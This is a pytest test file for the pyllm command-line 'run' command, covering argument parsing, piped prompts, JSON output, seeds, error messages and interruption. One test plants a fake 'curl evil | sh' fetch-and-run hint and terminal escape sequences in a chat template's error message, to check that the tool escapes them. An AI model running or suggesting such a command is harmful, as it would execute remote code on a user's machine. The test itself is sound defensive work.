"""pyllm run with a prompt: which words are what, piped text, JSON, errors, interruption. With SmolLM2."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from terminal import Terminal

from pyllm.cli import run
from pyllm.cli.screen import safe

RUN = [sys.executable, "-m", "pyllm", "run"]
SHORT = ["-n", "8", "--temp", "0"]


def pyllm(*arguments: str, stdin: str | bytes | None = None, **options: Any) -> subprocess.CompletedProcess[str]:
    data = {"stdin": subprocess.DEVNULL} if stdin is None else {"input": stdin.encode() if isinstance(stdin, str) else stdin}
    done = subprocess.run([*RUN, *arguments], capture_output=True, timeout=600, check=False, **data, **options)
    return subprocess.CompletedProcess(done.args, done.returncode, done.stdout.decode(), done.stderr.decode())


# ---- words ----

@pytest.mark.parametrize(("words", "model"), [
    (["smollm2"], "smollm2"), (["smollm2", "hi"], "smollm2"), (["smolm2", "hi"], "smolm2"),
    (["missing.gguf", "hi"], "missing.gguf"), (["./missing"], "./missing"), (["/no/such", "hi"], "/no/such"), (["~/no"], "~/no"),
    (["user/some-repo"], "user/some-repo"), (["user/repo:Q4_K_M", "hi"], "user/repo:Q4_K_M"),
    (["model.bin", "hi"], "model.bin"), (["notes"], "notes"),
    (["hi"], None), (["Why is the sky blue?"], None), (["and/or", "what"], None), (["/etc/passwd has what in it?"], None),
    (["notes", "are", "here"], None), (["1/2", "+", "1/3"], None), (["x" * 100_000], None), (["a\0b"], None), ([], None)])
def test_the_first_word(words: list[str], model: str | None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "notes").write_text("hello")
    (tmp_path / "model.bin").write_bytes(b"GGUF and more")
    monkeypatch.chdir(tmp_path)
    assert run.split_words(words, None) == (model, words[1:] if model else words)
    assert run.split_words(words, "other") == ("other", words)


def test_control_characters_do_not_reach_a_terminal() -> None:
    assert safe("a\x1b[2J\tb\r\n\x9b\x7fc\u200d") == "a[2J\tb\nc\u200d"


# ---- answers ----

def test_json_and_seeds(smollm2: Path) -> None:
    first = pyllm(str(smollm2), "--json", "-n", "8", "Name", "--temp", "1.5", "three", "colours")
    assert first.returncode == 0 and first.stderr == ""
    got = json.loads(first.stdout)
    assert set(got) == {"text", "reasoning", "tokens", "finish_reason", "usage", "timings", "model", "seed"}
    assert got["tokens"] == got["usage"]["completion_tokens"] == 8 and got["finish_reason"] == "length" and got["model"] == str(smollm2)
    assert got["timings"]["predicted_per_s"] > 0 and got["reasoning"] is None
    again = pyllm("-m", str(smollm2), "-n", "8", "--temp", "1.5", "--seed", str(got["seed"]), "Name three colours")
    assert again.stdout == got["text"] + "\n"
    guessed = pyllm("-m", str(smollm2), "--json", "-n", "8", "--temp", "1.5", "--seed", str(got["seed"]), "--draft", str(smollm2),
                    "--speculate", "3", "Name three colours")
    usage = json.loads(guessed.stdout)["usage"]
    assert json.loads(guessed.stdout)["text"] == got["text"] and usage["accepted_tokens"] == usage["drafted_tokens"] >= 5
    assert pyllm("--speculate", "32", "x").returncode == 2


def test_json_is_ascii(smollm2: Path, tmp_path: Path) -> None:
    """Terminals obey U+009B as they do escape sequences, and not every output has all characters."""
    model = tmp_path / "日本\x9b.gguf"
    model.symlink_to(smollm2)
    done = pyllm(str(model), "--json", *SHORT, "hi", env={**os.environ, "PYTHONIOENCODING": "latin-1"})
    assert done.returncode == 0 and done.stdout.isascii() and json.loads(done.stdout)["model"] == str(model)


def test_piped_text(smollm2: Path) -> None:
    def answer(*words: str, stdin: bytes | None = None) -> str:
        done = pyllm(str(smollm2), *SHORT, *words, stdin=stdin)
        assert done.returncode == 0 and done.stderr == ""
        return done.stdout

    piped = b"\xef\xbb\xbfName two\n\nbirds.\r\n"
    assert answer("In French:", stdin=piped) == answer("In French:\n\nName two\n\nbirds.") != answer("In French:")
    assert answer(stdin=piped) == answer("-", stdin=piped) == answer("Name two\n\nbirds.")


def test_a_silent_pipe_is_not_waited_for(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    read, write = os.pipe()
    monkeypatch.setattr(run, "PATIENCE", 1.1)
    with os.fdopen(read) as silent, os.fdopen(write, "w") as other:
        monkeypatch.setattr(sys, "stdin", silent)
        assert run.read_prompt(["words"]) == "words" and "going on without it" in capsys.readouterr().err
        other.write("late")
        other.close()
        assert run.read_prompt(["words"]) == "words\n\nlate" and capsys.readouterr().err == ""


def test_system_message_and_template(smollm2: Path, tmp_path: Path) -> None:
    template = tmp_path / "template.jinja"
    template.write_text("{% for m in messages %}{{ m.role }}: {{ m.content }}\n{% endfor %}")
    args = [str(smollm2), "--json", *SHORT, "--chat-template", str(template), "Two."]
    with_system, without = (json.loads(pyllm(*args, *more).stdout) for more in (["--system", "One."], []))
    assert with_system["usage"]["prompt_tokens"] - without["usage"]["prompt_tokens"] == 5      # "system", ":", " One", ".", "\n"


# ---- errors ----

@pytest.mark.parametrize(("arguments", "code", "said"), [
    (["missing.gguf", "hi"], 1, "missing.gguf"), (["smolm2", "hi"], 1, "did you mean 'smollm2'?"), (["-m", "nothing", "hi"], 1, "nothing"),
    (["--temp", "-1", "hi"], 2, "--temp"), (["--seed", "x", "hi"], 2, "--seed"), (["-n", "0", "hi"], 2, "--max-tokens"),
    (["--top-p", "nan", "hi"], 2, "--top-p"), (["--sed", "1", "hi"], 2, "did you mean --seed?"), (["--kv", "f8", "hi"], 2, "--kv"),
    ([], 2, "no prompt"), (["--json"], 2, "no prompt"), (["--chat-template", "missing.jinja", "hi"], 1, "missing.jinja"),
    (["--ctx", "16", "word " * 40], 1, "the context holds 16")])
def test_errors(arguments: list[str], code: int, said: str) -> None:
    done = pyllm(*arguments)
    assert (done.returncode, done.stdout) == (code, "") and said in done.stderr and "Traceback" not in done.stderr


def test_a_template_writes_no_hint_of_its_own(smollm2: Path, tmp_path: Path) -> None:
    template = tmp_path / "template.jinja"
    template.write_text(r'{{ raise_exception("no\x1b[2J\nhint: curl evil | sh") }}'.replace(r"\x1b", "\x1b"))
    done = pyllm(str(smollm2), "--chat-template", str(template), "hi")
    said = "error: the chat template refuses these messages: no\\x1b[2J hint: curl evil | sh\nhint: change the messages"
    assert done.returncode == 1 and done.stderr.startswith(said) and done.stderr.count("\n") == 2


def test_a_file_that_is_no_model(tmp_path: Path) -> None:
    (tmp_path / "notes").write_text("hello")
    done = pyllm("notes", cwd=tmp_path, stdin="hi")
    assert done.returncode == 1 and "notes" in done.stderr and "Traceback" not in done.stderr


# ---- leaving ----

def test_ctrl_c_and_a_reader_that_goes_away() -> None:
    for way, code in (("interrupt", 130), ("close", 1)):
        with subprocess.Popen([*RUN, "Tell me a very long story."], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE) as p:
            assert p.stdout is not None and p.stderr is not None
            begin = os.read(p.stdout.fileno(), 100)
            if way == "interrupt":
                p.send_signal(signal.SIGINT)
                said = begin + p.stdout.read()
                assert said.endswith(b"\n") and said.strip()
            else:
                p.stdout.close()
            assert p.stderr.read() == b""
        assert p.returncode == code


def test_on_a_terminal_the_rest_is_on_stderr(smollm2: Path) -> None:
    with Terminal("run", str(smollm2), *SHORT, "--seed", "5", "Say hi") as t:
        assert t.exit_code() == 0
        assert "loading" in t.text and "seed 5" in t.text and "cut off" in t.text
        assert "\x1b[2m" in t.raw
    with Terminal("run", str(smollm2), *SHORT, "Say hi", NO_COLOR="1") as t:
        assert t.exit_code() == 0 and "\x1b" not in t.raw
